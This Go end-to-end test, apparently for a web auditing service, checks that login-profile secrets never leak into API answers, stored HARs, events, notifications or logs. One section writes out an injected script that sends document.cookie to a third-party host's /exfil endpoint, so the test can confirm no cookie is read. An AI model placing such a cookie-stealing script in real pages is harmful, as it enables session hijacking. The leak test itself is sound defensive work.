package auditworker_test

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/base64"
	"encoding/json"
	"io"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/openvitals/openvitals/internal/apikey"
	"github.com/openvitals/openvitals/internal/audit"
	"github.com/openvitals/openvitals/internal/deliver"
	"github.com/openvitals/openvitals/internal/event"
	"github.com/openvitals/openvitals/internal/model"
	"github.com/openvitals/openvitals/internal/queue"
	"github.com/openvitals/openvitals/internal/redact"
	"github.com/openvitals/openvitals/internal/testing/apitest"
	"github.com/openvitals/openvitals/internal/testing/awstest"
)

const viewerKey = "ov_test_viewer_key_for_secrets_0123456789"

// TestProfileSecretsNeverLeave: a profile with a header, a cookie, basic authentication and
// login steps (a typed password, a selected option) audits a private page in real Chromium and
// Lighthouse; a profile whose select step names no option fails its login; an experiment
// injects a script that sends document.cookie to another host; a test series audits the page.
// Then no secret, nor its base64 form, is in any answer of the API (viewer and admin keys), any
// stored object (decompressed), any table item, any event and the webhook, Slack and email
// bodies made of it, or the worker's log. The HAR still names the headers, with the marker.
// The injected script read no cookie, and the website's host on another port got no header.
func TestProfileSecretsNeverLeave(t *testing.T) {
	e := newE2E(t, true)
	site := newLoginSite(t)
	worker, logs := profileWorker(e)
	ctx := context.Background()
	apitest.Provision(t, e.store, apikey.Grant{Account: "acme", Role: model.RoleViewer, Key: viewerKey})
	const wrongPlan = "nope-5ecret-0c9e"
	secrets := []string{secretHeader, secretCookie, secretBasic, secretPassword, secretPlan, wrongPlan, loginSession,
		base64.StdEncoding.EncodeToString([]byte("ci:" + secretBasic))}

	var ws struct{ ID string }
	e.api.Call(e.t, "POST", "/account/websites", `{"domain":"`+site.host+`","method":"simulated"}`, 201, &ws)
	var pages []struct{ ID string }
	e.api.Call(e.t, "POST", "/"+ws.ID+"/settings/pages", `[{"url":"/private","alias":"Private"},{"url":"/private?plan","alias":"Wrong plan"}]`, 200, &pages)
	private, wrong := pages[0].ID, pages[1].ID
	var prof struct{ ID string }
	e.api.Call(e.t, "POST", "/"+ws.ID+"/profiles", loginProfile("Signed in", private, secretPassword), 201, &prof)
	e.api.Call(e.t, "POST", "/"+ws.ID+"/profiles", loginProfileWith("Wrong plan", wrong, secretPassword, wrongPlan), 201, nil)
	w, err := e.store.Website(ctx, "acme", ws.ID)
	if err != nil {
		t.Fatal(err)
	}

	// The day's audit of the private page.
	if err := worker.Audit(ctx, audit.Job{Account: "acme", Website: ws.ID, Page: private, Device: "desktop", Queued: time.Now().UTC()}, 1); err != nil {
		t.Fatal(err)
	}
	// A login whose select step names no option: its last attempt, so that it is final, on the
	// second day running, so that it is an audit.failing event too.
	wrongPage, err := e.store.Page(ctx, w, wrong)
	if err != nil {
		t.Fatal(err)
	}
	if err := e.events.AuditFailed(ctx, w, wrongPage, "desktop", model.Day(time.Now().AddDate(0, 0, -1)), "yesterday's failure"); err != nil {
		t.Fatal(err)
	}
	if err := worker.Audit(ctx, audit.Job{Account: "acme", Website: ws.ID, Page: wrong, Device: "desktop", Queued: time.Now().UTC()}, queue.MaxReceives); err == nil {
		t.Fatal("the login with a wrong option passed")
	}
	var detail struct{ LastError struct{ Message string } }
	e.api.Call(e.t, "GET", "/"+ws.ID+"/pages/"+wrong+"?device=desktop", "", 200, &detail)
	if want := "login step 4 (select #plan) failed: no option has the given value"; detail.LastError.Message != want {
		t.Errorf("lastError %q, want %q", detail.LastError.Message, want)
	}

	// An experiment whose injected script sends the cookies it can read to the third party.
	var x struct{ ID string }
	script := `new Image().src='http://` + site.thirdParty + `/exfil?c='+encodeURIComponent(document.cookie)+'&n=1'`
	body, _ := json.Marshal(map[string]any{"page": private, "device": "desktop", "changes": map[string]any{"script": script}})
	e.api.Call(e.t, "POST", "/"+ws.ID+"/experiments", string(body), 202, &x)
	if err := worker.Audit(ctx, audit.Job{Account: "acme", Website: ws.ID, Page: private, Device: "desktop", Queued: time.Now().UTC(), Experiment: x.ID}, 1); err != nil {
		t.Fatal(err)
	}
	// A test series of the private page, its job as the API queued it.
	awstest.Receive(t, e.queue, 1) // the experiment's job, which the test ran itself
	var series seriesDoc
	e.api.Call(e.t, "POST", "/"+ws.ID+"/testseries", `{"pages":[{"page_id":"`+private+`","device":"desktop"}],"initiator":"CLI"}`, 201, &series)
	for _, job := range queuedJobs(t, e, 1) {
		if err := worker.Audit(ctx, job, 1); err != nil {
			t.Fatal(err)
		}
	}
	e.api.Call(e.t, "GET", "/"+ws.ID+"/testseries/"+series.ID, "", 200, &series)
	if series.Status != "completed" {
		t.Fatalf("series %+v, want completed", series)
	}

	// The injected script ran, and read no cookie.
	_, third := site.requests()
	exfil := 0
	for _, h := range third {
		if uri := h.Get("X-URI"); strings.HasPrefix(uri, "/exfil?") {
			exfil++
			q, _ := url.ParseQuery(strings.TrimPrefix(uri, "/exfil?"))
			if q.Get("c") != "" {
				t.Errorf("the injected script read the cookies %q", q.Get("c"))
			}
		}
	}
	if exfil == 0 {
		t.Error("the injected script never sent its request: the experiment proved nothing")
	}
	// The website's host on another port: requested, without the profile's headers.
	other := site.otherOriginRequests()
	if len(other) == 0 {
		t.Error("the other port's image was never requested")
	}
	for _, h := range other {
		if h.Get("X-Token") != "" || h.Get("Authorization") != "" {
			t.Errorf("another origin of the website's host got the profile's headers: %v", h)
		}
	}

	// Everything a person or a program can read.
	texts := map[string]string{"the worker's log": logs.String()}
	// The API's answers, to both keys.
	var admin, viewer bytes.Buffer
	paths := []string{"/" + ws.ID + "/profiles", "/" + ws.ID + "/profiles/" + prof.ID, "/" + ws.ID + "/pages?device=desktop",
		"/" + ws.ID + "/events", "/" + ws.ID + "/annotations", "/" + ws.ID + "/experiments", "/" + ws.ID + "/experiments/" + x.ID,
		"/" + ws.ID + "/testseries", "/" + ws.ID + "/testseries/" + series.ID, "/" + ws.ID + "/tests/" + series.Result.List[0].ID,
		"/" + ws.ID + "/incidents", "/" + ws.ID + "/regressions", "/" + ws.ID + "/opportunities"}
	for _, p := range []string{private, wrong} {
		for _, sub := range []string{"", "/timeline", "/network", "/opportunities", "/diagnostics", "/diagnostics/har"} {
			paths = append(paths, "/"+ws.ID+"/pages/"+p+sub+"?device=desktop")
		}
	}
	var har []byte
	for _, path := range paths {
		for key, out := range map[string]*bytes.Buffer{apitest.AdminKey: &admin, viewerKey: &viewer} {
			req := httptest.NewRequest("GET", path, nil)
			req.Header.Set("Authorization", "Bearer "+key)
			req.Header.Set("Accept-Encoding", "identity")
			rec := httptest.NewRecorder()
			e.api.Handler.ServeHTTP(rec, req)
			if rec.Code >= 500 {
				t.Errorf("GET %s: %d", path, rec.Code)
			}
			out.Write(rec.Body.Bytes())
			if strings.HasSuffix(path, "/"+private+"/diagnostics/har?device=desktop") && key == viewerKey {
				if rec.Code != 200 {
					t.Fatalf("GET %s: %d %s", path, rec.Code, rec.Body)
				}
				har = rec.Body.Bytes()
			}
		}
	}
	texts["the API's answers to an admin key"], texts["the API's answers to a viewer key"] = admin.String(), viewer.String()
	// Every stored object, decompressed.
	keys, err := e.objects.Keys(ctx, "")
	if err != nil {
		t.Fatal(err)
	}
	hars := 0
	for _, k := range keys {
		b, err := e.objects.Get(ctx, k)
		if err != nil {
			t.Fatal(err)
		}
		if zr, err := gzip.NewReader(bytes.NewReader(b)); err == nil {
			if b, err = io.ReadAll(zr); err != nil {
				t.Fatal(err)
			}
		}
		if strings.HasSuffix(k, ".har.gz") {
			hars++
		}
		texts["the object "+k] = string(b)
	}
	if hars < 4 {
		t.Errorf("%d HARs stored, want the day's, the series test's and the experiment's two: %v", hars, keys)
	}
	// Every item of the table.
	for _, it := range awstest.TableOf(t, e.clients, e.store).Items("", "") {
		b, _ := json.Marshal(it)
		texts["the table's items"] += string(b) + "\n"
	}
	// Every event, and what a webhook, Slack and email would carry of it.
	evs, _, err := e.store.Events(ctx, w, model.EventFilter{}, "", 100)
	if err != nil {
		t.Fatal(err)
	}
	failing := false
	for _, ev := range evs {
		doc := event.NewDocument(w, ev, "https://openvitals.example")
		hook, _ := json.Marshal(doc)
		slack, _ := json.Marshal(deliver.SlackMessage(w, doc))
		subject, text, html := deliver.EmailBodies(w, doc)
		texts["the events' messages"] += string(hook) + string(slack) + subject + text + html
		failing = failing || ev.Type == event.AuditFailing
	}
	if !failing {
		t.Errorf("no audit.failing event among %d: the failed login's message was not checked", len(evs))
	}

	for _, secret := range secrets {
		for _, form := range []string{secret, base64.StdEncoding.EncodeToString([]byte(secret))} {
			for where, text := range texts {
				if strings.Contains(text, form) {
					i := strings.Index(text, form)
					t.Errorf("%s holds the secret %q: …%s…", where, form, text[max(0, i-80):min(len(text), i+len(form)+40)])
				}
			}
		}
	}
	// The HAR still shows what was sent, by name.
	for _, want := range []string{`{"name":"X-Token","value":"` + redact.Marker + `"}`, `{"name":"Authorization","value":"` + redact.Marker + `"}`,
		`{"name":"consent","value":"` + redact.Marker + `"`, `{"name":"session","value":"` + redact.Marker + `"`} {
		if !bytes.Contains(har, []byte(want)) {
			t.Errorf("the HAR lacks %s", want)
		}
	}
	var parsed struct{ Log struct{ Entries []any } }
	if err := json.Unmarshal(har, &parsed); err != nil || len(parsed.Log.Entries) == 0 {
		t.Errorf("the HAR served is not a HAR with entries: %v", err)
	}
}

// queuedJobs receives the audit queue's jobs, at least want of them.
func queuedJobs(t *testing.T, e *e2e, want int) []audit.Job {
	t.Helper()
	var jobs []audit.Job
	for _, body := range awstest.Receive(t, e.queue, want) {
		var j audit.Job
		if err := json.Unmarshal([]byte(body), &j); err != nil {
			t.Fatal(err)
		}
		jobs = append(jobs, j)
	}
	if len(jobs) < want {
		t.Fatalf("%d jobs queued, want %d", len(jobs), want)
	}
	return jobs
}
